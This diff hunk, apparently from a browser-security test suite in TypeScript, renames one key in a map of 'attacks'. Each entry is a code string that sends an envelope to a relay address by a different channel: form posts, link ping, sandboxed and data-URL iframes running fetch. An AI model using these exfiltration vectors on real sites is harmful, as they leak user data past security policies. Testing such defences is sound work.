@@ -47,7 +47,7 @@ const attacks: Readonly<Record<string, string>> = {
   "a form as it usually is": `post(k.relay, "application/x-www-form-urlencoded", k.envelope)`,
   "a form of parts": `post(k.relay, "multipart/form-data", k.envelope)`,
   "a form that is led on": `post("/redirect", "text/plain", k.envelope)`,
-  "a form in a window of its own": `post(k.relay, "text/plain", k.envelope, "_blank")`,
+  "a form in its own window": `post(k.relay, "text/plain", k.envelope, "_blank")`,
   "a link that tells who followed it": `(() => { const a = document.createElement("a"); a.href = "#"; a.ping = k.relay; document.body.append(a); a.click(); })()`,
   "a sandbox": `frame({ sandbox: "allow-scripts allow-forms", srcdoc: "<script>fetch(" + JSON.stringify(k.relay) + ", { method: 'POST', mode: 'no-cors', body: " + JSON.stringify(k.envelope) + " })</script>" })`,
   "a page that is its own address": `frame({ src: "data:text/html,<script>fetch('" + k.relay + "', { method: 'POST', mode: 'no-cors', body: atob('" + btoa(k.envelope) + "') })</script>" })`,
